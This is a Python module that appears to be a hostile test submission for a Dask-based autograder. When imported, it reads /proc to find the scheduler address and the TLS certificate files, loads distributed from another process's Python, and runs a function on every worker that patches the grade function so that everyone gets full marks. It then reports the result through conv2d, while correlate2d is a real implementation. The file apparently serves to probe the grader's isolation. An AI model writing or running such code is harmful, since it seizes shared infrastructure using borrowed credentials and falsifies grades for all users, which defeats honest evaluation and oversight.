"""Hostile (issue 19 §1): take over the Dask cluster that grades it.

On import it looks in /proc for a Dask scheduler's address (in a `dask worker tls://...` command
line), imports `distributed` from the site-packages of the Python that process runs (the .pth
files too), and asks the scheduler to run, in every Dask worker process, a function that makes
grader.grading.grade give full marks to everyone from then on. correlate2d is right; conv2d
raises what happened, so a test reads it from the verdict.
"""
import glob
import os
import sys

import numpy as np


def _full_marks():  # runs in the Dask worker process, if the scheduler lets it
    import grader.grading as grading

    original = grading.grade

    def grade(*args, **kwargs):
        report = original(*args, **kwargs)
        for result in report.exercises:
            for test in result.tests:
                test.score, test.status = test.max_score, "passed"
        return report

    grading.grade = grade
    return "patched"


_full_marks.__module__ = "__main__"  # so that Dask sends the function itself, not its module's name


def _scheduler():
    """A scheduler address on some process's command line, the site-packages of its Python, and
    the TLS files that command line names (a cluster with TLS wants a certificate)."""
    for cmdline in sorted(glob.glob("/proc/[0-9]*/cmdline")):
        try:
            with open(cmdline, "rb") as file:
                words = file.read().decode(errors="replace").split("\0")
        except OSError:
            continue
        address = next((word for word in words if word.startswith(("tcp://", "tls://"))), None)
        if address and any("dask" in word or "distributed" in word for word in words):
            prefix = os.path.dirname(os.path.dirname(words[0]))
            tls = {word: words[index + 1] for index, word in enumerate(words[:-1]) if word.startswith("--tls-")}
            return address, glob.glob(os.path.join(prefix, "lib", "python3*", "site-packages")), tls
    return None, [], {}


def _take_over():
    address, sites, tls = _scheduler()
    if address is None:
        return "found no Dask scheduler"
    for site in sites:
        sys.path.append(site)
        for pth in glob.glob(os.path.join(site, "*.pth")):
            with open(pth) as file:
                sys.path += [line.strip() for line in file if os.path.isdir(line.strip())]
    try:
        from distributed import Client
    except BaseException as error:
        return f"found {address} but could not import distributed: {type(error).__name__}: {error}"
    try:
        security = None
        if tls:  # the worker's own certificate and key, if this user can read them
            from distributed import Security

            security = Security(tls_ca_file=tls.get("--tls-ca-file"), tls_client_cert=tls.get("--tls-cert"),
                                tls_client_key=tls.get("--tls-key"), require_encryption=True)
        with Client(address, timeout="3s", security=security) as client:
            done = client.run(_full_marks)
        return f"took over {address}: {done}"
    except BaseException as error:
        return f"could not take over {address}: {type(error).__name__}: {str(error)[:200]}"


OUTCOME = _take_over()


def correlate2d(image, kernel):
    image, kernel = np.asarray(image, dtype=np.float64), np.asarray(kernel, dtype=np.float64)
    KH, KW = kernel.shape
    windows = np.lib.stride_tricks.sliding_window_view(image, (KH, KW))
    return np.einsum("ijkl,kl->ij", windows, kernel)


def conv2d(x, w, b=None):
    raise RuntimeError(f"dask takeover: {OUTCOME}")
